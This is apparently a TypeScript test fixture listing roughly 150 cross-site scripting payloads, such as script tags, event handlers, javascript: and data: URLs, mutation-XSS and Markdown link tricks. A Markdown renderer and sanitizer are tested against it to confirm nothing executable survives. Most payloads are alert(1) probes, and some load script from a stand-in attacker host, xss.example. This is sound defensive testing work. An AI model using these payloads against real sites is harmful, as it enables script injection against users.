/**
 * Well-known cross-site scripting payloads, written for this project after the families in the
 * OWASP XSS Filter Evasion Cheat Sheet and the public mutation-XSS (mXSS) write-ups, plus the
 * Markdown-specific ways in (link destinations, autolinks, reference definitions, linkify, code).
 *
 * `markdown.test.ts` runs every entry through `renderMarkdown` and through the sanitizer alone,
 * and asserts that nothing executable survives. Add a payload here whenever a new trick is
 * reported; the tests pick it up without further change.
 *
 * `xss.example` stands for an attacker's host, `ok.example` for a harmless one.
 */
export const XSS_CORPUS: readonly string[] = [
	// Script elements, plain and malformed
	'<script>alert(1)</script>',
	'<SCRIPT SRC=https://xss.example/xss.js></SCRIPT>',
	'<script/xss src="https://xss.example/xss.js"></script>',
	'<<script>alert(1);//<</script>',
	'<script>alert(1)//',
	'<scr<script>ipt>alert(1)</scr</script>ipt>',
	'"><script>alert(1)</script>',
	'</title><script>alert(1)</script>',
	'<script src=//xss.example/x.js?<b>',
	'<ScRiPt>alert(String.fromCharCode(88,83,83))</ScRiPt>',
	'<div <script>alert(1)</script>',

	// Event handlers on many elements, with every separator browsers accept
	'<img src=x onerror=alert(1)>',
	'<IMG SRC=# onmouseover="alert(\'xss\')">',
	'<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000049&#0000041">',
	'<body onload=alert(1)>',
	'<div onmouseover="alert(1)">hover</div>',
	'<input autofocus onfocus=alert(1)>',
	'<details open ontoggle=alert(1)>',
	'<video><source onerror="alert(1)"></video>',
	'<audio src=x onerror=alert(1)>',
	'<marquee onstart=alert(1)>x</marquee>',
	'<select autofocus onfocus=alert(1)></select>',
	'<textarea autofocus onfocus=alert(1)></textarea>',
	'<a href="https://ok.example" onclick="alert(1)">click</a>',
	'<p/onclick=alert(1)>x</p>',
	'<img/src=x/onerror=alert(1)>',
	'<img src=x onerror\n=alert(1)>',
	'<strong onclick=alert(1)>allowed element, forbidden attribute</strong>',
	'<img src=`x` onerror=`alert(1)`>',
	'<IMG """><SCRIPT>alert("XSS")</SCRIPT>">',
	'<img src=x:alert(alt) onerror=eval(src) alt=0>',
	'<table background="javascript:alert(1)"><tr><td onmouseover=alert(1)>x</td></tr></table>',

	// SVG and MathML namespaces
	'<svg onload=alert(1)>',
	'<svg><script>alert(1)</script></svg>',
	'<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
	'<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
	'<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>x</text></a></svg>',
	'<svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>',
	'<math><a xlink:href="javascript:alert(1)">x</a></math>',
	'<math href="javascript:alert(1)">x</math>',
	'<svg><style>@import "https://xss.example/x.css";</style></svg>',

	// javascript:, vbscript: and data: URLs in HTML, plain and obfuscated
	'<a href="javascript:alert(1)">x</a>',
	'<a href="JaVaScRiPt:alert(1)">x</a>',
	'<a href="  javascript:alert(1)">x</a>',
	'<a href=" &#14;  javascript:alert(1)">x</a>',
	'<a href="jav&#x09;ascript:alert(1)">x</a>',
	'<a href="jav&#x0A;ascript:alert(1)">x</a>',
	'<a href="jav&#x0D;ascript:alert(1)">x</a>',
	'<a href="jav\tascript:alert(1)">x</a>',
	'<a href="java\u0000script:alert(1)">x</a>',
	'<a href="\u0001javascript:alert(1)">x</a>',
	'<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
	'<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>',
	'<a href="javascript&colon;alert(1)">x</a>',
	'<a href=javascript:alert(1)>x</a>',
	'<<a href=javascript:alert(1)>x</a>',
	'<a href="javascript:alert(1)',
	'<a href="vbscript:msgbox(1)">x</a>',
	'<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
	'<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>',

	// Markdown inline links
	'[x](javascript:alert(1))',
	'[x](JAVASCRIPT:alert(1))',
	'[x](  javascript:alert(1))',
	'[x](<javascript:alert(1)>)',
	'[x](<java script:alert(1)>)',
	'[x](jav&#x09;ascript:alert(1))',
	'[x](&#106;avascript:alert(1))',
	'[x](javascript&colon;alert(1))',
	'[x](java%0ascript:alert(1))',
	'[x](\u0001javascript:alert(1))',
	'[x](javascript:alert(1) "title")',
	'[x](vbscript:msgbox(1))',
	'[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
	'[x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)',
	'[a PNG is still data:](data:image/png;base64,iVBORw0KGgo=)',
	'[x](https://ok.example "a\\" onmouseover=\\"alert(1)")',
	'[x](https://ok.example"onmouseover="alert(1))',
	'[<img src=x onerror=alert(1)>](https://ok.example)',
	'[x](https://ok.example)<script>alert(1)</script>',

	// Markdown reference-style links
	'[x][evil]\n\n[evil]: javascript:alert(1)',
	'[x][evil]\n\n[evil]: <javascript:alert(1)> "t"',
	'[evil]\n\n[evil]: JaVaScRiPt:alert(1)',
	'[x][evil]\n\n[evil]: data:text/html,<script>alert(1)</script>',

	// Markdown autolinks and linkify
	'<javascript:alert(1)>',
	'<JAVASCRIPT:alert(1)>',
	'<vbscript:msgbox(1)>',
	'<data:text/html,<script>alert(1)</script>>',
	'javascript:alert(1)',
	'https://ok.example/"onmouseover="alert(1)',
	'www.ok.example/?q="><script>alert(1)</script>',

	// Markdown images (none are rendered yet, but their text must stay text)
	'![x](javascript:alert(1))',
	'![x"onerror="alert(1)](https://ok.example/x.png)',
	'![<script>alert(1)</script>](https://ok.example/x.png)',

	// Markdown code, which must come out escaped
	'`<script>alert(1)</script>`',
	'```html\n<script>alert(1)</script>\n```',
	'```" onmouseover="alert(1)\n<b>x</b>\n```',
	'    <script>alert(1)</script>',

	// Style: expression(), url(javascript:), @import, behaviours
	'<style>body{background:url("javascript:alert(1)")}</style>',
	'<div style="width: expression(alert(1));">x</div>',
	'<p style="background-image: url(javascript:alert(1))">x</p>',
	'<p style="behavior: url(https://xss.example/xss.htc)">x</p>',
	'<link rel="stylesheet" href="javascript:alert(1)">',
	'<style>@import "https://xss.example/x.css";</style>',

	// Frames, plugins, base, meta refresh, forms
	'<iframe src="javascript:alert(1)"></iframe>',
	'<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
	'<iframe src=javascript:alert(1) <',
	'<object data="javascript:alert(1)"></object>',
	'<object type="text/x-scriptlet" data="https://xss.example/x.html"></object>',
	'<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
	'<base href="javascript:alert(1)//">',
	'<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
	'<meta http-equiv="refresh" content="0;url=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
	'<form action="javascript:alert(1)"><button>go</button></form>',
	'<form><button formaction="javascript:alert(1)">go</button></form>',
	'<isindex action="javascript:alert(1)" type=submit>',
	'<frameset><frame src="javascript:alert(1)"></frameset>',
	'<applet code="javascript:alert(1)"></applet>',

	// Template, noscript and other mutation-XSS classics
	'<template><script>alert(1)</script></template>',
	'<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
	'<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>',
	'<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
	'<textarea><p title="</textarea><img src=x onerror=alert(1)>">',
	'<title><p title="</title><img src=x onerror=alert(1)>">',
	'<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
	'<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
	'<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
	'<listing>&lt;img src=x onerror=alert(1)&gt;</listing>',

	// Comments, CDATA, processing instructions, conditional comments
	'<!--<img src="--><img src=x onerror=alert(1)//">',
	'<!-- --!><img src=x onerror=alert(1)> -->',
	'<![CDATA[<]]><script>alert(1)</script>',
	'<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>',
	"<? echo('<script>alert(1)</script>'); ?>",
	'<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',

	// Quotes, nesting and unclosed markup
	'<a href="https://ok.example" title=\'x" onmouseover="alert(1)\'>x</a>',
	'<a title="<img src=x onerror=alert(1)>" href="https://ok.example">x</a>',
	'<a href="https://ok.example/&#x22;onmouseover=&#x22;alert(1)">x</a>',
	'<img src="x` onerror=alert(1)//',

	// Character references, unicode and other encodings that must stay text
	'&lt;script&gt;alert(1)&lt;/script&gt;',
	'&#60;img src=x onerror=alert(1)&#62;',
	'\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
	'\uFF1Cscript\uFF1Ealert(1)\uFF1C/script\uFF1E',
	'%3Cscript%3Ealert(1)%3C/script%3E',
	'+ADw-script+AD4-alert(1)+ADw-/script+AD4-'
];
